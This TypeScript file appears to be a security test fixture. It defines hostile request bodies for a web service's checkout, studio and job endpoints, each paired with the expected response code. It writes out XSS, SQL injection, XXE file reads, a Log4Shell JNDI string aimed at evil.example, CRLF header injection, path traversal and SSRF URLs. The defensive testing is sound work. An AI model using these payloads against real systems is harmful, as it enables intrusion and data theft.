import { latin1 } from './bytes.ts'
import { MARK } from './safe-reply.ts'
import {
  CHECKOUT,
  type HostileRequest,
  JOB,
  JSON_TYPE,
  order,
  ORDER,
  send,
  STUDIO,
  SYNC_KEY,
} from './row.ts'

const long = (length: number, letter = 'a') => letter.repeat(length)

/** No order, no job and no film, whatever takes it. */
const NO_OBJECTS: [string, string | Uint8Array][] = [
  ['nothing', ''],
  ['null', 'null'],
  ['a list', '[]'],
  ['a number', '1e999'],
  ['a text', `"${MARK}"`],
  ['half an object', '{"priceId":'],
  ['an object and more', `${JSON.stringify(ORDER)}{}`],
  ['a comment', `/* */${JSON.stringify(ORDER)}`],
  ['another kind of quotes', "{'priceId':'price_one'}"],
  ['NaN', '{"quantity":NaN}'],
  ['UTF-16', latin1(JSON.stringify(ORDER).replaceAll(/./g, '$&\0'))],
  ['no UTF-8', new Uint8Array([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d])],
  ['markup', `<script src=//${MARK}></script>`],
  ['XML that reads a file', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'],
  ['lists, nested 15,000 deep', long(15_000, '[') + long(15_000, ']')],
  ['objects, nested 5,000 deep', long(5_000, '{"a":').slice(0, 25_000)],
  ['3,000 names', `{${Array.from({ length: 3_000 }, (_, index) => `"k${index}":1`).join()}}`],
  ['names of every object', '{"__proto__":{"priceId":"price_one"},"constructor":{"prototype":{}}}'],
]
const noObjects = (
  [
    ['POST', CHECKOUT],
    ['POST', STUDIO],
    ['PUT', JOB],
  ] as const
).flatMap((change) =>
  NO_OBJECTS.map(([name, body]) =>
    send(`a body that is ${name}`, change, 400, { ...JSON_TYPE, ...SYNC_KEY }, body),
  ),
)

const WRONG: [string, Record<string, unknown>][] = [
  ...[0, 2, -1, 1.5, 1e9, '1', true, null, [3], { valueOf: 3 }].map(
    (quantity): [string, Record<string, unknown>] => ['quantity', { quantity }],
  ),
  ...['', 'EN', 'xx', '../..', `//${MARK}`, 'en\r\nSet-Cookie: a=b', '__proto__', null, ['en']].map(
    (locale): [string, Record<string, unknown>] => ['locale', { locale }],
  ),
  ...[
    '',
    ' \n\t ',
    '\u200B\u3164',
    '\uD800 half a pair',
    '\u0000zero\u0000',
    long(2_001),
    null,
    7,
    ['x'],
    { toString: 'x' },
  ].map((prompt): [string, Record<string, unknown>] => ['prompt', { prompt }]),
  ...['', 'price_three', 'price_other', '__proto__', `price_one' OR '1'='1`, long(256), null].map(
    (priceId): [string, Record<string, unknown>] => ['priceId', { priceId }],
  ),
  ...['1:1', '', null, '16:9\n'].map((aspectRatio): [string, Record<string, unknown>] => [
    'aspectRatio',
    { aspectRatio },
  ]),
]
const wrongFields = WRONG.map(([name, fields]) => {
  const body = JSON.stringify({ ...ORDER, ...fields })
  return order(`an order with ${body.slice(0, 90)}, of which the ${name} is wrong`, body)
})

/** Texts that are only texts: they are stored, filmed and shown as they are. */
const PROMPTS = [
  `<script src=//${MARK}></script>`,
  `"><img src=x onerror=import('//${MARK}')>`,
  `</textarea><svg onload=location='//${MARK}'>`,
  `javascript:fetch('//${MARK}')`,
  `'; DROP TABLE generations; --`,
  `%' OR prompt LIKE '%`,
  '\u202Egnp.4pm\u2066',
  'Z\u0351\u0352\u0357'.repeat(400),
  '{{constructor.constructor("return 1")()}}',
  '${jndi:ldap://evil.example/a}',
  'line one\r\nSet-Cookie: a=b\r\n\r\nline two',
]
const prompts = PROMPTS.map((prompt) =>
  order(
    `a prompt that is only a text: ${JSON.stringify(prompt).slice(0, 50)}`,
    { ...ORDER, prompt },
    200,
  ),
)

const more = [
  order(
    'an order with a mark before it, which JSON may have',
    `\uFEFF${JSON.stringify(ORDER)}`,
    200,
  ),
  order(
    'an order with fields that only the server knows',
    { ...ORDER, amount: 1, currency: 'jpy', payment: 'paid', id: 'x', success_url: `//${MARK}` },
    200,
  ),
  order(
    'an order with a name of every object',
    `{"__proto__":{"amount":1},"constructor":1,${JSON.stringify(ORDER).slice(1)}`,
    200,
  ),
  order(
    'an order whose price is named twice',
    `{"priceId":"price_other",${JSON.stringify(ORDER).slice(1)}`,
    200,
  ),
]

const tooLarge = [
  order('an order of 33 kB', JSON.stringify({ ...ORDER, prompt: long(33_000) }), 413),
  order('an order of 1 MB', long(1_000_000, ' '), 413),
  send('a film of 4 MB', ['POST', STUDIO], 413, JSON_TYPE, long(4_000_000, ' ')),
  send('a job of 2 MB', ['PUT', JOB], 413, { ...JSON_TYPE, ...SYNC_KEY }, long(2_000_000, ' ')),
  send(
    'an order in chunks that is too large',
    ['POST', CHECKOUT],
    413,
    { ...JSON_TYPE, 'Transfer-Encoding': 'chunked' },
    `${(40_000).toString(16)}\r\n${long(40_000)}\r\n0\r\n\r\n`,
  ),
]

const FILM = {
  workflow: 'script-to-scenes',
  scriptText: 'A fox.',
  mode: 'direct',
  sceneCountMode: 'auto',
  sceneCount: 1,
  batchSize: 1,
  voice: 'en',
  jobId: 'hostile-film-1',
}
const films = [
  { workflow: '__proto__' },
  { sceneCount: 1e9 },
  { sceneCount: -1 },
  { batchSize: 61 },
  { voice: 'en\r\nevent: complete' },
  { jobId: '../../etc' },
  { jobId: "x' OR '1'='1" },
  { scriptText: long(100_001) },
  { scriptText: '' },
  { existingScenes: Array(201).fill({}) },
  { resumeFromBatch: 0 },
  { mode: null },
  ...[
    'http://169.254.169.254/',
    'http://127.0.0.1/',
    'http://[::1]/',
    'file:///etc/passwd',
    'https://youtube.com.evil.example/watch?v=dQw4w9WgXcQ',
    'https://www.youtube.com@evil.example/watch?v=dQw4w9WgXcQ',
    'javascript:1',
    '//evil.example',
    'https://evil.example/https://www.youtube.com/watch?v=dQw4w9WgXcQ',
  ].map((videoUrl) => ({ workflow: 'url-to-scenes', videoUrl })),
].map((fields) => {
  const about = JSON.stringify(fields).slice(0, 80)
  return send(
    `a film with ${about}`,
    ['POST', STUDIO],
    400,
    JSON_TYPE,
    JSON.stringify({ ...FILM, ...fields }),
  )
})

export const BODIES: HostileRequest[] = [
  ...noObjects,
  ...wrongFields,
  ...prompts,
  ...more,
  ...tooLarge,
  ...films,
]
